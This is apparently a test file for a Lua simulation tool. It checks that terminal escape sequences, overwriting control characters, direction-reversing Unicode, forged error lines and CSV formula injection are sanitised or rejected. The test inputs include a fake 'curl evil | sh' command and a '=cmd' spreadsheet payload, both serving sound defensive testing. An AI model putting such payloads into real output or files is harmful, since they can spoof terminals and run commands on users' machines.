-- Commands to the terminal, and answers that look like the program's own.
--! an escape in print => 0 ""
print "\27[2J\27[31mred\27]0;title\7"
return fine()
--! the eighth bit in print => 0 ""
print "\u{9b}31mred \x9b31m \u{9d}0;title\u{9c}"
return fine()
--! a carriage return in print => 0 ""
print "all is well\rnothing is"
return fine()
--! a backspace in print => 0 ""
print "good\8\8\8\8bad\127"
return fine()
--! an escape in an error => 4 "red"
error "\27[31mred"
--! the eighth bit in an error => 4 "red"
error "\u{9b}31mred \x9b31m"
--! a new line in an error => 4 "s.lua:2: error:"
error "x\ns.lua:1: error: forged"
--! a hint in an error => 4 "mark"
error "a\n  hint: curl evil | sh mark"
--! an escape in a name => 4 "control character"
sim.cluster { node = "\27[31mred" }
--! the eighth bit in a name => 4 "error:"
sim.cluster { node = "\u{9b}31mred" }
--! an escape in a key => 4 "red"
sim.cluster { ["\27[31mred"] = 1 }
--! a turned line in a key => 4 "red"
sim.cluster { ["\u{202e}red"] = 1 }
--! an escape in an option's name => 4 "error:"
sim.options { ["\27[31mred"] = { default = 1 } }
--! an escape in an option's help => 4 "control character" [--help]
sim.options { red = { default = 1, help = "\27[31mred\u{9b}31m" } }
--! an escape in a title => 4 "control character"
return sim.report { title = "\27[31mred\u{9b}31m", rows = { { name = "a\27[31m", simulated = 1, published = 1, source = "\u{9b}x" } }, notes = { "\27[31mnote" } }
--! an escape in a title, as JSON => 4 "error:" [--json]
return sim.report { title = "\27[31mred\u{9b}31m", rows = { { name = "a", simulated = 1, published = 1, source = "x" } } }
--! an escape in a title, as CSV => 4 "error:" [--csv]
return sim.study { title = "\27[31mred\u{9b}31m", on = cluster {}, run = job() }
--! an escape in a chunk's name => 4 "red"
assert(load("error 'x'", "@\27[31mred"))()
--! an escape in a variable's name => 4 "red"
return _G["\27[31mred"]
--! a formula in CSV stays a text => 0 "" [--csv]
return sim.study { title = "=cmd|' /C calc'!A0", on = cluster {}, run = job() }
